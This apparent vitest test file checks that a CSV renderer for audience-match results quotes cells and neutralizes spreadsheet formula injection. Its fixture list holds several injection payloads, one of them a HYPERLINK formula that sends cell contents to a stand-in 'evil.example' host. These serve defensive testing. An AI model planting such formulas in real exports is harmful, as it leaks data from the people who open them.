import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  CSV_COLUMNS,
  csvCell,
  neutralizeCell,
  renderResultCsv,
  renderResultJson,
} from '../../shared/domain/result/render-csv.ts';
import { type MatchResult, MatchResultSchema } from '../../shared/domain/result/result-schema.ts';

const hostileNames = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'Quotes "inside", commas, and\nnew lines',
  'Café Münster 🚗',
];

const result: MatchResult = {
  list: {
    rows: 1200,
    valid: 1100,
    invalid: 100,
    invalidByReason: { '=bad': 100 },
    duplicates: 50,
    distinct: 1050,
  },
  matched: 400,
  matchRate: 0.381,
  segments: [
    ...hostileNames.map((name, i) => ({
      segmentId: i === 0 ? '-seg0' : `seg${i}`,
      name,
      matched: 50 + i,
      suppressed: false,
      share: 0.125,
      affinity: 140,
    })),
    {
      segmentId: 'small',
      name: 'Small',
      matched: null,
      suppressed: true,
      reason: 'below-k' as const,
      share: null,
      affinity: null,
    },
  ],
  privacy: {
    k: 50,
    noise: { mechanism: 'discrete-gaussian', rho: 0.01, sigma: 12.247, sensitivity2: 3 },
    rounding: 'none',
    budget: {
      period: '2025-01',
      renewsAt: '2025-02-01T00:00:00.000Z',
      rhoSpent: 0.01,
      advertiserLeft: 0.39,
      advertiserAllowance: 0.4,
      partnerLeft: 0.99,
    },
  },
  partner: { partnerId: '@partner', profile: 'basic' },
  generatedAt: '2025-01-02T03:04:05.000Z',
};

describe('neutralizeCell and csvCell', () => {
  it('prefixes cells that start a formula with an apostrophe', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r', '\n'])
      expect(neutralizeCell(`${lead}x`)).toBe(`'${lead}x`);
    for (const safe of ['abc', ' =x', "'quoted", '1', '0.5', '']) expect(neutralizeCell(safe)).toBe(safe);
  });

  it('quotes every cell and doubles inner quotes', () => {
    expect(csvCell('a"b,c')).toBe('"a""b,c"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(undefined)).toBe('""');
    expect(csvCell(12)).toBe('"12"');
    expect(csvCell(false)).toBe('"false"');
    expect(csvCell('=1')).toBe(`"'=1"`);
  });
});

describe('renderResultCsv', () => {
  const csv = renderResultCsv(result);
  const rows = parse(csv, { bom: true, relax_column_count: false }) as string[][];

  it('is a rectangular RFC 4180 CSV with a BOM, CRLF line ends and every cell quoted', () => {
    expect(csv.startsWith('\uFEFF"segment_id","name"')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(renderResultCsv(result, { bom: false }).startsWith('"segment_id"')).toBe(true);
  });

  it('has one row per segment, with empty cells for withheld values', () => {
    const segmentRows = rows.slice(1, 1 + result.segments.length);
    expect(segmentRows.map((r) => r[2])).toEqual([...hostileNames.map((_, i) => String(50 + i)), '']);
    expect(segmentRows.at(-1)).toEqual(['small', 'Small', '', 'true', 'below-k', '', '']);
    expect(segmentRows[1]).toEqual(['seg1', "'+1+2", '51', 'false', '', '0.125', '140']);
  });

  it('neutralizes every cell a spreadsheet would run, and keeps other text intact', () => {
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
    const names = rows.slice(1, 1 + hostileNames.length).map((r) => r[1]);
    expect(names).toEqual(hostileNames.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)));
    expect(rows[1]?.[0]).toBe("'-seg0");
  });

  it('ends with a summary block of metric and value rows', () => {
    const start = rows.findIndex((r) => r[0] === 'metric');
    expect(rows[start - 1]).toEqual(['', '', '', '', '', '', '']);
    const summary = Object.fromEntries(rows.slice(start + 1).map((r) => [r[0], r[1]]));
    expect(summary).toMatchObject({
      partner_id: "'@partner",
      list_rows: '1200',
      'list_invalid_=bad': '100',
      list_distinct: '1050',
      matched_total: '400',
      matched_total_reason: '',
      min_segment_size_k: '50',
      noise_mechanism: 'discrete-gaussian',
      noise_rho: '0.01',
      noise_sigma: '12.247',
      noise_sensitivity2: '3',
      rounding: 'none',
      budget_period: '2025-01',
      budget_rho_spent: '0.01',
      budget_rho_left: '0.39',
    });
  });
});

describe('renderResultJson', () => {
  it('renders the validated Result, which parses back to the same value', () => {
    const json = renderResultJson(result);
    expect(json.endsWith('\n')).toBe(true);
    expect(MatchResultSchema.parse(JSON.parse(json))).toEqual(result);
  });

  it('refuses a Result that breaks the contract', () => {
    expect(() => renderResultJson({ ...result, matched: -1 })).toThrow();
  });
});
